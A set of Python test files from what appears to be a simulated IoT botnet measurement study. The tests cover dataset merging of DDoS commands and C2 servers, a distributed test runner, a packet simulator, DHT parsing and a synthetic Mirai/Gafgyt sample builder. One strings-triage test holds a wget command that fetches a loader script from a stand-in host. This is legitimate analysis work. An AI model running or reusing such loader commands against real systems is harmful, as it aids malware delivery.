    assert list(merged.d_c2s) == ["10.0.0.3", "10.0.0.1", "10.0.0.2"]


def test_merge_ddos_record_conflicts():
    """Same (C2, command) in two shards dedups like serial ddos_record."""
    command = AttackCommand("udp", 0x01020304, 80, 60)
    other = AttackCommand("syn", 0x01020304, 80, 60)
    one, two = Datasets(), Datasets()
    a = one.ddos_record("c2.example", "mirai", command, when=900.0,
                        origin=(4, "dddd", 0))
    a.sample_hashes.add("dddd")
    a.via_heuristic = True
    b = two.ddos_record("c2.example", "gafgyt", command, when=100.0,
                        origin=(1, "bbbb", 1))
    b.sample_hashes.add("bbbb")
    b.verified = True
    two.ddos_record("c2.example", "gafgyt", other, when=150.0,
                    origin=(2, "cccc", 0))

    merged = Datasets.merge([one, two])
    assert len(merged.d_ddos) == 2
    first, second = merged.d_ddos
    # ordered by global creation order, earliest creator wins when/family
    assert first.command == command and first.origin == (1, "bbbb", 1)
    assert first.family == "gafgyt" and first.when == 100.0
    assert first.sample_hashes == {"bbbb", "dddd"}
    assert first.verified and first.via_heuristic
    assert second.command == other and second.origin == (2, "cccc", 0)


def test_merge_orders_profiles_and_exploits(serial):
    """Reversed shard inputs still come out in (day, sha256) order."""
    merged = Datasets.merge([serial, Datasets()])
    # a sample's exploit rows keep their capture order, which only holds
    # when each sample's records live in one shard — split like shard_of
    front, back = Datasets(), Datasets()
    front.profiles = [p for p in serial.profiles
                      if shard_of(p.sha256, 2) == 0]
    back.profiles = [p for p in serial.profiles
                     if shard_of(p.sha256, 2) == 1]
    front.d_exploits = [r for r in serial.d_exploits
                        if shard_of(r.sha256, 2) == 0]
    back.d_exploits = [r for r in serial.d_exploits
                       if shard_of(r.sha256, 2) == 1]
    remerged = Datasets.merge([back, front])
    assert merged.profiles == serial.profiles
    assert remerged.profiles == serial.profiles
    assert remerged.d_exploits == serial.d_exploits


# -- runner machinery ---------------------------------------------------------


def test_runner_rejects_bad_arguments():
    world = generate_world(seed=SEED, scale=SCALE)
    with pytest.raises(ValueError, match="workers"):
        ShardedStudyRunner(world, workers=0)
    world.seed = None
    with pytest.raises(ValueError, match="seeded world"):
        ShardedStudyRunner(world, workers=2)


def test_fold_counters_sums_worker_snapshots():
    worker = MetricsRegistry()
    worker.counter("samples_collected", "help").inc(7)
    worker.counter("samples_skipped", "help", labelnames=("reason",)) \
        .labels(reason="duplicate").inc(3)
    worker.gauge("some_gauge", "ignored").set(5)
    snapshot = worker.snapshot()

    parent = MetricsRegistry()
    parent.counter("samples_collected", "help").inc(1)
    fold_counters(parent, snapshot)
    fold_counters(parent, snapshot)
    assert parent.value("samples_collected") == 15
    assert parent.value("samples_skipped", reason="duplicate") == 6
    assert parent.get("some_gauge") is None
    # excluded counters (cross-shard deduplicated records) are not summed
    fold_counters(parent, snapshot, exclude=("samples_collected",))
    assert parent.value("samples_collected") == 15
    assert parent.value("samples_skipped", reason="duplicate") == 9


# -- shard_timeout semantics: per-wave deadline, crash vs hang ---------------


def _chaos_runner(plan, **kwargs):
    world = generate_world(seed=SEED, scale=SCALE)
    return ShardedStudyRunner(world, workers=2,
                              config=PipelineConfig(faults=plan), **kwargs)


def test_timed_out_crash_is_reported_as_a_crash():
    """A pool worker that died (nonzero exit) reads differently from one
    that is merely stuck — the 3 a.m. difference between 'restart the
    box' and 'attach a profiler'."""
    from repro.netsim.faults import FaultPlan

    plan = FaultPlan(name="crash-forever", crash_shards=(1,),
                     crash_attempts=99)
    runner = _chaos_runner(plan, shard_timeout=10.0, max_redispatch=0)
    runner.start()
    runner.join()
    assert runner.failed_shards == [1]
    assert "worker crashed" in runner.failures[1]
    assert "exit codes" in runner.failures[1]
    assert "wave deadline" in runner.failures[1]


def test_timed_out_hang_is_reported_as_a_hang():
    from repro.netsim.faults import FaultPlan

    plan = FaultPlan(name="hang-forever", hang_shards=(1,),
                     hang_attempts=99, hang_seconds=120.0)
    runner = _chaos_runner(plan, shard_timeout=8.0, max_redispatch=0)
    runner.start()
    try:
        runner.join()
    finally:
        pass  # transport teardown terminates the hung pool
    assert runner.failed_shards == [1]
    assert "worker hung" in runner.failures[1]
    assert "wave deadline" in runner.failures[1]


def test_shard_timeout_budget_is_per_wave():
    """A retry wave gets a *fresh* ``shard_timeout`` budget: a unit that
    hangs past the first wave's deadline succeeds on re-dispatch even
    though total elapsed exceeds one budget."""
    import time

    from repro.netsim.faults import FaultPlan

    plan = FaultPlan(name="hang-once", hang_shards=(1,),
                     hang_attempts=1, hang_seconds=60.0)
    runner = _chaos_runner(plan, shard_timeout=8.0, max_redispatch=1)
    started = time.monotonic()
    runner.start()
    results = runner.join()
    elapsed = time.monotonic() - started
    assert runner.failed_shards == []
    assert runner.redispatches == 1
    assert len(results) == 2
    # the retry ran in wave 2's own budget, past wave 1's deadline
    assert elapsed > 8.0


def test_parallel_counter_totals_match_serial():
    """Summed worker counters equal the serial run's, dedup included."""
    from repro.obs import create_telemetry

    def totals(workers):
        telemetry = create_telemetry()
        world = generate_world(seed=SEED, scale=SCALE)
        run_study(world, telemetry=telemetry, workers=workers)
        return {
            (family.name, tuple(sorted(labels.items()))): child.value
            for family in telemetry.metrics.families()
            if family.kind == "counter"
            for labels, child in family.series()
        }

    assert totals(None) == totals(2)
