"""Shared fixtures: generated worlds and completed studies.

Session-scoped because a study run is the expensive part; tests only read
from the results.
"""

import pytest

from repro.world import StudyScale, generate_world
from repro.core.study import run_study

SMOKE = StudyScale(sample_fraction=0.05, probe_days=4,
                   observe_duration=1800.0, observe_poll_interval=300.0,
                   scan_budget=120)
MID = StudyScale(sample_fraction=0.3, probe_days=14,
                 observe_duration=2700.0, observe_poll_interval=300.0,
                 scan_budget=200)


@pytest.fixture(scope="session")
def smoke_world():
    return generate_world(seed=20220322, scale=SMOKE)


@pytest.fixture(scope="session")
def smoke_study(smoke_world):
    malnet, campaign, datasets = run_study(smoke_world)
    return smoke_world, malnet, campaign, datasets


@pytest.fixture(scope="session")
def mid_world():
    return generate_world(seed=7, scale=MID)


@pytest.fixture(scope="session")
def mid_study(mid_world):
    malnet, campaign, datasets = run_study(mid_world)
    return mid_world, malnet, campaign, datasets
