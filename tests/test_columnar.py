"""The columnar packet core's contract: lazy, byte-identical, picklable.

The netsim hot loop appends packets as columnar rows and only rebuilds
:class:`Packet` objects when a trace is genuinely *read* ("never build
unless read").  These tests pin the three load-bearing properties:

1. the row path reconstructs packets field-for-field identical to eager
   object construction — across seeds, protocols, and payloads;
2. laziness survives a pickle round trip (the shard transport), and the
   scalar/flow readers consume rows without materializing anything;
3. the :class:`TimeWheel` yields exactly the candidates a linear scan
   would, in the same order, and the clock skips empty slots correctly.
"""

import pickle
import random

import pytest

from repro.core.datasets import Datasets
from repro.core.parallel import ShardResult
from repro.netsim.capture import (
    COLUMN_STATS,
    Capture,
    PacketColumns,
    columnar_stats,
)
from repro.netsim.flows import FlowTable
from repro.netsim.internet import STUDY_EPOCH, SimClock, TimeWheel
from repro.netsim.packet import (
    TcpFlags,
    encode_memo_stats,
    tcp_packet,
    udp_packet,
)

_FLAG_CHOICES = (
    TcpFlags.SYN,
    TcpFlags.SYN | TcpFlags.ACK,
    TcpFlags.PSH | TcpFlags.ACK,
    TcpFlags.ACK,
    TcpFlags.FIN | TcpFlags.ACK,
    TcpFlags.RST,
)


def _random_traffic(seed, count=200):
    """One deterministic packet workload: (kind, fields) descriptors."""
    rng = random.Random(seed)
    events = []
    for i in range(count):
        src = rng.randrange(1, 2**32 - 1)
        dst = rng.randrange(1, 2**32 - 1)
        ts = round(STUDY_EPOCH + i * 0.005 + rng.random(), 6)
        payload = rng.randbytes(rng.randrange(0, 64))
        if rng.random() < 0.7:
            events.append(("tcp", (
                src, dst, rng.randrange(1024, 65536), rng.randrange(1, 1024),
                rng.choice(_FLAG_CHOICES), payload,
                rng.randrange(0, 2**32), rng.randrange(0, 2**32), ts,
            )))
        else:
            events.append(("udp", (
                src, dst, rng.randrange(1024, 65536), rng.randrange(1, 1024),
                payload, ts,
            )))
    return events


def _record_columnar(events, label=""):
    cap = Capture(label=label)
    for kind, fields in events:
        if kind == "tcp":
            cap.add_tcp(*fields)
        else:
            src, dst, sport, dport, payload, ts = fields
            cap.add_udp(src, dst, sport, dport, payload, timestamp=ts)
    return cap


def _record_eager(events, label=""):
    cap = Capture(label=label)
    for kind, fields in events:
        if kind == "tcp":
            src, dst, sport, dport, flags, payload, seq, ack, ts = fields
            cap.add(tcp_packet(src, dst, sport, dport, flags, payload,
                               seq=seq, ack=ack, timestamp=ts))
        else:
            src, dst, sport, dport, payload, ts = fields
            cap.add(udp_packet(src, dst, sport, dport, payload, timestamp=ts))
    return cap


def _assert_identical(columnar, eager):
    got, want = columnar.packets, eager.packets
    assert got == want            # dataclass equality (timestamp excluded)
    for g, w in zip(got, want):   # so timestamps are pinned explicitly
        assert g.timestamp == w.timestamp
        assert g.flags is w.flags or g.flags == w.flags
        assert type(g.protocol) is type(w.protocol)


# -- property: columnar == eager, across seeds --------------------------------


@pytest.mark.parametrize("seed", [0, 1, 7, 1337, 20220322, 999983])
def test_columnar_read_equals_eager_construction(seed):
    events = _random_traffic(seed)
    _assert_identical(_record_columnar(events), _record_eager(events))


@pytest.mark.parametrize("seed", [3, 11, 4242, 555555, 87178291199])
def test_columnar_equivalence_survives_shard_pickle(seed):
    """Laziness and field identity survive the ShardResult transport."""
    events = _random_traffic(seed, count=120)
    cap = _record_columnar(events, label="shard")
    built_before = columnar_stats()["built"]
    result = ShardResult(shard_index=0, datasets=Datasets(),
                         counters={"trace": cap})
    restored = pickle.loads(pickle.dumps(result)).counters["trace"]
    # transport must not have forced materialization on either side
    assert columnar_stats()["built"] == built_before
    assert restored._cols is not None
    assert restored.label == "shard"
    _assert_identical(restored, _record_eager(events))


def test_interleaved_objects_and_rows_keep_order():
    """Object adds flush the columnar tail; global order is preserved."""
    events = _random_traffic(5, count=60)
    cap = Capture()
    eager = _record_eager(events)
    for i, (kind, fields) in enumerate(events):
        if i % 7 == 3:  # occasionally force the object path mid-stream
            cap.add(eager.packets[i])
        elif kind == "tcp":
            cap.add_tcp(*fields)
        else:
            src, dst, sport, dport, payload, ts = fields
            cap.add_udp(src, dst, sport, dport, payload, timestamp=ts)
    _assert_identical(cap, eager)


# -- laziness: readers that must not build ------------------------------------


def test_scalar_queries_do_not_materialize():
    cap = _record_columnar(_random_traffic(2, count=80))
    built_before = columnar_stats()["built"]
    eager = _record_eager(_random_traffic(2, count=80))
    baseline = columnar_stats()["built"] - built_before
    cap.destinations()
    cap.destination_ports()
    cap.duration()
    cap.total_bytes()
    cap.packets_per_second()
    list(cap.iter_rows())
    assert len(cap) == 80
    assert cap._cols is not None, "scalar reads must stay columnar"
    assert columnar_stats()["built"] == built_before + baseline
    assert cap.destinations() == eager.destinations()
    assert cap.total_bytes() == eager.total_bytes()
    assert cap.duration() == eager.duration()


def test_flow_table_consumes_rows_without_building():
    events = _random_traffic(9, count=150)
    cap = _record_columnar(events)
    built_before = columnar_stats()["built"]
    table = FlowTable.from_capture(cap)
    assert cap._cols is not None
    assert columnar_stats()["built"] == built_before
    eager_table = FlowTable.from_capture(_record_eager(events))
    assert set(table._flows) == set(eager_table._flows)
    for key, flow in table._flows.items():
        other = eager_table._flows[key]
        assert flow == other
        assert (flow.first_time, flow.last_time) == \
            (other.first_time, other.last_time)


def test_packets_read_materializes_once():
    cap = _record_columnar(_random_traffic(4, count=30))
    built_before = columnar_stats()["built"]
    first = cap.packets
    assert columnar_stats()["built"] == built_before + 30
    assert cap.packets is first  # second read is free
    assert columnar_stats()["built"] == built_before + 30


def test_stats_counters_exposed():
    assert set(COLUMN_STATS) == {"rows", "built"}
    assert set(encode_memo_stats()) == {"hit", "miss", "evict"}
    before = columnar_stats()["rows"]
    PacketColumns().append_udp(1, 2, 3, 4, b"", 0.0)
    assert columnar_stats()["rows"] == before + 1


# -- the time wheel -----------------------------------------------------------


def test_wheel_matches_linear_scan():
    """items_at == the full-scan survivors, in insertion order."""
    rng = random.Random(31337)
    wheel = TimeWheel(3600.0)
    windows = []
    for i in range(300):
        start = rng.uniform(0, 100 * 3600.0)
        end = start + rng.uniform(0.0, 20 * 3600.0)
        windows.append((start, end, i))
        wheel.add_window(start, end, i)
    for _ in range(200):
        now = rng.uniform(-3600.0, 110 * 3600.0)
        want = [i for start, end, i in windows if start <= now < end]
        got = [i for i in wheel.items_at(now)
               if windows[i][0] <= now < windows[i][1]]
        assert got == want


def test_wheel_window_end_exclusive_on_boundary():
    wheel = TimeWheel(100.0)
    wheel.add_window(0.0, 200.0, "a")     # exactly slots 0 and 1
    assert "a" in wheel.items_at(199.0)
    assert wheel.items_at(200.0) == ()
    assert len(wheel) == 2


def test_wheel_rejects_unbounded_windows():
    wheel = TimeWheel(10.0)
    with pytest.raises(ValueError):
        wheel.add_window(0.0, float("inf"), "x")
    with pytest.raises(ValueError):
        wheel.add(float("nan"), "x")
    wheel.add_window(5.0, 5.0, "noop")    # empty window: silently skipped
    assert len(wheel) == 0


def test_clock_skips_empty_slots():
    clock = SimClock(start=0.0, slot_seconds=60.0)
    clock.schedule(600.0, "later")
    assert clock.pending() == ()
    assert clock.advance_to_next_event(limit=10_000.0) == 600.0
    assert list(clock.pending()) == ["later"]
    # the current slot is still the next occupied one: the clock stays put
    assert clock.advance_to_next_event(limit=700.0) == 600.0
    # past the occupied slot, nothing pending: land exactly on the limit
    clock.advance_to(660.0)
    assert clock.advance_to_next_event(limit=700.0) == 700.0
    with pytest.raises(ValueError):
        clock.advance_to_next_event(limit=0.0)


def test_next_occupied_after_everything():
    wheel = TimeWheel(60.0)
    wheel.add(120.0, "x")
    assert wheel.next_occupied(0.0) == 120.0
    assert wheel.next_occupied(120.0) == 120.0
    assert wheel.next_occupied(181.0) is None


# -- the XL scale and the backbone cap ----------------------------------------


def test_backbone_limit_rides_the_scale():
    from repro.world import StudyScale, generate_world

    scale = StudyScale(sample_fraction=0.05, probe_days=1, backbone_limit=77)
    world = generate_world(seed=3, scale=scale)
    assert world.internet.backbone_limit == 77
    unbounded = StudyScale(sample_fraction=0.05, probe_days=1,
                           backbone_limit=None)
    assert generate_world(seed=3, scale=unbounded) \
        .internet.backbone_limit is None


def test_xl_scale_registered_and_sized():
    from repro.cli import SCALES
    from repro.world import SMOKE_SCALE, XL_SCALE

    assert SCALES["xl"] is XL_SCALE
    assert XL_SCALE.total_samples >= 10 * SMOKE_SCALE.total_samples
    assert XL_SCALE.backbone_limit == 60_000
    assert SMOKE_SCALE.backbone_limit == 20_000  # presets keep the old cap
