"""Tests for the synthetic sample builder and strings triage."""

import random

import pytest

from repro.binary.builder import build_chaff, build_sample
from repro.binary.config import BotConfig, unpack_config
from repro.binary.elf import ElfImage, is_mips32_elf
from repro.binary.strings import (
    contains_any,
    extract_domains,
    extract_ips,
    extract_strings,
    extract_urls,
)


def mirai_config():
    return BotConfig(
        family="mirai", c2_host="203.0.113.5", c2_port=23,
        scan_ports=[23, 2323], exploit_ids=[1], loader_name="8UsA.sh",
        downloader="203.0.113.5:80", attacks=["udp"],
    )


def gafgyt_config():
    return BotConfig(
        family="gafgyt", c2_host="cnc.example.com", c2_port=666,
        scan_ports=[23], attacks=["udp", "std"],
    )


class TestBuildSample:
    def test_sample_is_mips32_elf(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert is_mips32_elf(sample.data)

    def test_config_recoverable(self):
        sample = build_sample(mirai_config(), random.Random(0))
        image = ElfImage.parse(sample.data)
        config = unpack_config(image.section(".config").data)
        assert config == mirai_config()

    def test_mirai_config_obfuscated_on_disk(self):
        sample = build_sample(mirai_config(), random.Random(0))
        # the C2 address must not appear in cleartext anywhere
        assert b"203.0.113.5:23" not in sample.data
        image = ElfImage.parse(sample.data)
        assert image.section(".config").data[0] == 1

    def test_gafgyt_config_clear_on_disk(self):
        sample = build_sample(gafgyt_config(), random.Random(0))
        image = ElfImage.parse(sample.data)
        assert image.section(".config").data[0] == 0
        # text-protocol families leak the C2 in .rodata strings
        assert b"cnc.example.com" in sample.data

    def test_sha256_stable_and_distinct(self):
        a = build_sample(mirai_config(), random.Random(0))
        b = build_sample(mirai_config(), random.Random(0))
        c = build_sample(mirai_config(), random.Random(1))
        assert a.sha256 == b.sha256
        assert a.sha256 != c.sha256

    def test_family_marker_present(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert contains_any(sample.data, [b"MIRAI"])

    def test_variant_defaults(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert sample.variant == "mirai.a"
        explicit = build_sample(mirai_config(), random.Random(0), variant="mirai.b")
        assert explicit.variant == "mirai.b"

    def test_unknown_family_rejected(self):
        with pytest.raises(KeyError):
            build_sample(BotConfig(family="nosuch"), random.Random(0))

    def test_len(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert len(sample) == len(sample.data) > 500


class TestChaff:
    @pytest.mark.parametrize("kind", ["arm", "x86", "junk", "truncated"])
    def test_chaff_is_not_mips32(self, kind):
        assert not is_mips32_elf(build_chaff(random.Random(0), kind))


class TestStrings:
    def test_extracts_min_length(self):
        data = b"\x00abc\x00defgh\x01ij"
        assert extract_strings(data, min_length=4) == ["defgh"]
        assert "abc" in extract_strings(data, min_length=3)

    def test_min_length_validated(self):
        with pytest.raises(ValueError):
            extract_strings(b"x", min_length=0)

    def test_extract_ips(self):
        data = b"connect 203.0.113.5 now, also 999.1.1.1 is invalid"
        assert extract_ips(data) == ["203.0.113.5"]

    def test_extract_domains(self):
        data = b"resolve cnc.botnet.example.com and junk.nonexistenttld"
        assert "cnc.botnet.example.com" in extract_domains(data)
        assert all(not d.endswith("nonexistenttld") for d in extract_domains(data))

    def test_extract_urls(self):
        data = b"fetch wget http://203.0.113.5/8UsA.sh; run"
        urls = extract_urls(data)
        assert any("8UsA.sh" in u for u in urls)

    def test_loader_name_visible_in_sample(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert any("8UsA.sh" in s for s in extract_strings(sample.data))
