"""Tests for the Mozi/Hajime DHT (bencode) dialect."""

import random

import pytest
from hypothesis import given, strategies as st

from repro.botnet.protocols import p2p
from repro.botnet.protocols.base import ProtocolError

bencodable = st.recursive(
    st.one_of(
        st.integers(min_value=-(10**6), max_value=10**6),
        st.binary(max_size=16),
    ),
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(st.binary(min_size=1, max_size=8), children, max_size=4),
    ),
    max_leaves=10,
)


class TestBencode:
    def test_int(self):
        assert p2p.bencode(42) == b"i42e"
        assert p2p.bdecode(b"i-7e") == -7

    def test_string(self):
        assert p2p.bencode(b"abc") == b"3:abc"
        assert p2p.bdecode(b"0:") == b""

    def test_list(self):
        assert p2p.bencode([1, b"a"]) == b"li1e1:ae"
        assert p2p.bdecode(b"li1e1:ae") == [1, b"a"]

    def test_dict_sorted_keys(self):
        assert p2p.bencode({b"b": 1, b"a": 2}) == b"d1:ai2e1:bi1ee"

    @given(bencodable)
    def test_roundtrip_property(self, value):
        assert p2p.bdecode(p2p.bencode(value)) == value

    @pytest.mark.parametrize(
        "bad",
        [b"", b"i42", b"li1e", b"d1:a", b"5:abc", b"x", b"iabce", b"i42etrailing"],
    )
    def test_rejects_malformed(self, bad):
        with pytest.raises(ProtocolError):
            p2p.bdecode(bad)

    def test_rejects_unencodable(self):
        with pytest.raises(ProtocolError):
            p2p.bencode(3.14)

    def test_rejects_non_string_dict_key(self):
        with pytest.raises(ProtocolError):
            p2p.bdecode(b"di1ei2ee")


class TestDhtMessages:
    def test_find_node_is_query(self):
        rng = random.Random(0)
        payload = p2p.encode_find_node(p2p.node_id(rng), p2p.node_id(rng))
        assert p2p.is_dht_query(payload)
        assert p2p.query_kind(payload) == "find_node"

    def test_announce_is_query(self):
        rng = random.Random(0)
        payload = p2p.encode_announce(p2p.node_id(rng), 6881)
        assert p2p.query_kind(payload) == "announce_peer"

    def test_node_id_length_and_prefix(self):
        node = p2p.node_id(random.Random(0))
        assert len(node) == 20
        assert node[:2] == b"\x88\x88"

    def test_bad_node_id_rejected(self):
        with pytest.raises(ProtocolError):
            p2p.encode_find_node(b"short", b"x" * 20)
        with pytest.raises(ProtocolError):
            p2p.encode_announce(b"short", 6881)

    def test_non_dht_traffic_not_query(self):
        assert not p2p.is_dht_query(b"GET / HTTP/1.0\r\n\r\n")
        assert not p2p.is_dht_query(b"")
        assert p2p.query_kind(b"junk") is None

    def test_response_is_not_query(self):
        response = p2p.bencode({b"t": b"mz", b"y": b"r", b"r": {b"id": b"x" * 20}})
        assert not p2p.is_dht_query(response)
