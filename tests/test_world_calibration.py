"""Tests for the calibration constants and scale machinery."""

import pytest

from repro.netsim.internet import SECONDS_PER_DAY, STUDY_EPOCH
from repro.world import calibration as cal
from repro.world.calibration import StudyScale


class TestWeekMapping:
    def test_31_active_weeks(self):
        assert cal.ACTIVE_WEEKS == 31
        assert set(cal.WEEK_DATES) == set(range(1, 32))

    def test_appendix_e_mapping(self):
        """Week 1 -> 2021/w14; weeks 2-11 -> 2021/w24-33; weeks 12-20 ->
        2021/w44-52+; weeks 21-31 -> 2022/w2-12."""
        assert cal.WEEK_DATES[1] == (2021, 14)
        assert cal.WEEK_DATES[2] == (2021, 24)
        assert cal.WEEK_DATES[11] == (2021, 33)
        assert cal.WEEK_DATES[12] == (2021, 44)
        assert cal.WEEK_DATES[21] == (2022, 2)
        assert cal.WEEK_DATES[31] == (2022, 12)

    def test_week_start_monotone(self):
        starts = [cal.week_start(w) for w in range(1, 32)]
        assert starts == sorted(starts)
        assert starts[0] == STUDY_EPOCH
        assert starts[1] - starts[0] == 7 * SECONDS_PER_DAY

    def test_week_start_bounds(self):
        with pytest.raises(ValueError):
            cal.week_start(0)
        with pytest.raises(ValueError):
            cal.week_start(32)

    def test_may7_after_study(self):
        assert cal.MAY_7_2022 > cal.week_start(31)


class TestDistributionsSane:
    def test_family_mix_sums_to_one(self):
        assert sum(w for _f, w in cal.FAMILY_MIX) == pytest.approx(1.0)

    def test_campaign_sizes_sum_to_one(self):
        assert sum(w for _s, w in cal.CAMPAIGN_SIZES) == pytest.approx(1.0)

    def test_lifetime_buckets_sum_to_one(self):
        assert sum(p for _l, _h, p in cal.LIFETIME_BUCKETS) == pytest.approx(1.0)

    def test_spread_buckets_sum_to_one(self):
        assert sum(p for _l, _h, p in cal.SPREAD_BUCKETS) == pytest.approx(1.0)

    def test_top10_weights_sum_to_one(self):
        assert sum(w for _a, w in cal.TOP10_AS_WEIGHTS) == pytest.approx(1.0)

    def test_attack_plan_totals_42(self):
        total = sum(count for _f, _m, count in cal.ATTACK_METHOD_PLAN)
        assert total == cal.ATTACK_COMMAND_COUNT == 42

    def test_attack_plan_families(self):
        families = {family for family, _m, _c in cal.ATTACK_METHOD_PLAN}
        assert families == {"mirai", "gafgyt", "daddyl33t"}

    def test_table5_probe_ports(self):
        assert cal.PROBE_PORTS == (1312, 666, 1791, 9506, 606, 6738, 5555,
                                   1014, 3074, 6969, 42516, 81)
        assert len(cal.PROBE_PORTS) == 12

    def test_dns_fraction_consistent_with_table3(self):
        """15.3 ≈ f*57.6 + (1-f)*13.3 gives f in the 4-7% range."""
        assert 0.03 <= cal.DNS_C2_FRACTION <= 0.08

    def test_victim_mix(self):
        assert sum(s for _k, s in cal.VICTIM_KIND_MIX) == pytest.approx(1.0)


class TestStudyScale:
    def test_full_scale_samples(self):
        assert StudyScale().total_samples == 1447

    def test_fraction_scales(self):
        assert StudyScale(sample_fraction=0.5).total_samples == 723

    def test_floor_of_eight(self):
        assert StudyScale(sample_fraction=0.0001).total_samples == 8

    def test_smoke_scale_small(self):
        assert cal.SMOKE_SCALE.total_samples < 100
        assert cal.SMOKE_SCALE.probe_days < cal.PROBE_DAYS
