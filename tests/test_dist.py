"""The distributed runner end-to-end: wire format, worker daemon,
coordinator scheduling, and the byte-identity guarantee over TCP.

The expensive sections run one smoke study per fault plan through real
``SocketTransport`` machinery — in-process :class:`WorkerServer`
threads for the scheduling tests (correctness is GIL-independent), and
``python -m repro worker`` subprocesses for the SIGKILL test, where a
worker must be killable mid-unit without the digest moving.
"""

import dataclasses
import os
import re
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from repro.core.cache import dataset_digest
from repro.core.pipeline import PipelineConfig
from repro.core.study import run_study
from repro.dist import (LocalTransport, SocketTransport, WireError,
                        recv_frame, send_frame)
from repro.dist.wire import FrameDecoder
from repro.dist.worker import WorkerServer, WorldCache
from repro.netsim.faults import FAULT_PLANS
from repro.obs import create_telemetry
from repro.world import StudyScale, generate_world

SCALE = StudyScale(sample_fraction=0.05, probe_days=4,
                   observe_duration=1800.0, observe_poll_interval=300.0,
                   scan_budget=120)
SEED = 1337
UNIT_COUNT = 8

MILD = PipelineConfig(faults=FAULT_PLANS["mild"])
# one unit straggles hard: the shape that must trigger a steal, and the
# run that must stay byte-identical when a worker is killed under it
STRAGGLER = PipelineConfig(faults=dataclasses.replace(
    FAULT_PLANS["mild"], name="mild-straggler",
    hang_shards=(2,), hang_attempts=1, hang_seconds=6.0))


def _serial(config):
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(world, config=config)
    return dataset_digest(datasets)


@pytest.fixture(scope="module")
def serial_plain():
    return _serial(None)


@pytest.fixture(scope="module")
def serial_mild():
    return _serial(MILD)


@pytest.fixture(scope="module")
def serial_straggler():
    return _serial(STRAGGLER)


@pytest.fixture(scope="module")
def workers():
    """Two in-process worker daemons on ephemeral ports."""
    servers = [WorkerServer().start(), WorkerServer().start()]
    yield servers
    for server in servers:
        server.shutdown()


def _peers(servers):
    return [f"{s.host}:{s.port}" for s in servers]


_ANNOUNCE = re.compile(r"listening on ([\d.]+):(\d+)")


def _spawn_fleet(count):
    """``repro worker`` daemons as real subprocesses -> (procs, peers)."""
    env = dict(os.environ)
    env["PYTHONPATH"] = str(Path(__file__).resolve().parents[1] / "src") + (
        os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else "")
    procs, peers = [], []
    for _ in range(count):
        proc = subprocess.Popen(
            [sys.executable, "-m", "repro", "worker", "--port", "0"],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
            text=True, env=env)
        procs.append(proc)
        match = _ANNOUNCE.search(proc.stdout.readline())
        assert match, "worker did not announce its address"
        peers.append(f"{match.group(1)}:{match.group(2)}")
    return procs, peers


def _stop_fleet(procs):
    for proc in procs:
        if proc.poll() is None:
            proc.terminate()
            proc.wait(timeout=10)


# -- wire format --------------------------------------------------------------


def test_frame_roundtrip():
    left, right = socket.socketpair()
    try:
        message = {"type": "task", "unit": 3, "payload": list(range(100))}
        send_frame(left, message)
        assert recv_frame(right) == message
    finally:
        left.close()
        right.close()


def test_clean_eof_is_none_midframe_eof_raises():
    left, right = socket.socketpair()
    left.close()
    try:
        assert recv_frame(right) is None    # EOF at a frame boundary
    finally:
        right.close()
    left, right = socket.socketpair()
    try:
        send_frame(left, {"type": "heartbeat", "unit": 0})
        # deliver the header plus one payload byte, then hang up
        frame = right.recv(1 << 16)
        reader, writer = socket.socketpair()
        writer.sendall(frame[:5])
        writer.close()
        with pytest.raises(WireError):
            recv_frame(reader)
        reader.close()
    finally:
        left.close()
        right.close()


def test_corrupted_payload_is_rejected():
    left, right = socket.socketpair()
    try:
        send_frame(left, {"type": "result", "unit": 1})
        frame = bytearray(right.recv(1 << 16))
        frame[-1] ^= 0xFF                   # flip a pickle byte
        reader, writer = socket.socketpair()
        writer.sendall(bytes(frame))
        with pytest.raises(WireError):
            recv_frame(reader)
        reader.close()
        writer.close()
    finally:
        left.close()
        right.close()


def test_decoder_reassembles_fragmented_and_coalesced_frames():
    left, right = socket.socketpair()
    try:
        for unit in range(3):
            send_frame(left, {"type": "heartbeat", "unit": unit})
        stream = right.recv(1 << 20)
    finally:
        left.close()
        right.close()
    # one byte at a time: worst-case TCP fragmentation
    decoder = FrameDecoder()
    messages = []
    for offset in range(len(stream)):
        messages.extend(decoder.feed(stream[offset:offset + 1]))
    assert [m["unit"] for m in messages] == [0, 1, 2]
    # all three frames in one recv: coalescing
    assert [m["unit"] for m in FrameDecoder().feed(stream)] == [0, 1, 2]


def test_decoder_rejects_absurd_header():
    with pytest.raises(WireError):
        FrameDecoder().feed(b"\xff\xff\xff\xff")


# -- world cache --------------------------------------------------------------


def test_world_cache_leases_are_private_copies():
    cache = WorldCache(limit=2)
    tiny = StudyScale(sample_fraction=0.02, probe_days=2,
                      observe_duration=600.0, observe_poll_interval=300.0,
                      scan_budget=60)
    first = cache.lease(7, tiny)
    second = cache.lease(7, tiny)
    assert (cache.hits, cache.misses) == (1, 1)
    assert first is not second and first.internet is not second.internet
    # mutating a lease must not poison later leases
    first.probe_start = 12345.0
    third = cache.lease(7, tiny)
    assert third.probe_start == second.probe_start != 12345.0


def test_world_cache_evicts_least_recently_used():
    cache = WorldCache(limit=2)
    tiny = StudyScale(sample_fraction=0.02, probe_days=2,
                      observe_duration=600.0, observe_poll_interval=300.0,
                      scan_budget=60)
    for seed in (1, 2, 3):
        cache.lease(seed, tiny)
    assert len(cache.keys()) == 2
    assert cache.misses == 3
    cache.lease(3, tiny)                    # still resident
    assert cache.hits == 1
    cache.lease(1, tiny)                    # evicted: regenerates
    assert cache.misses == 4


# -- socket transport end-to-end ----------------------------------------------


def _socket_study(peers, config, unit_count=UNIT_COUNT, **kwargs):
    telemetry = create_telemetry()
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(
        world, config=config, telemetry=telemetry, transport="socket",
        peers=peers, unit_count=unit_count, **kwargs)
    return datasets, telemetry.manifest


def test_socket_transport_matches_serial(workers, serial_plain):
    datasets, manifest = _socket_study(_peers(workers), None)
    assert not datasets.failed_shards
    assert dataset_digest(datasets) == serial_plain
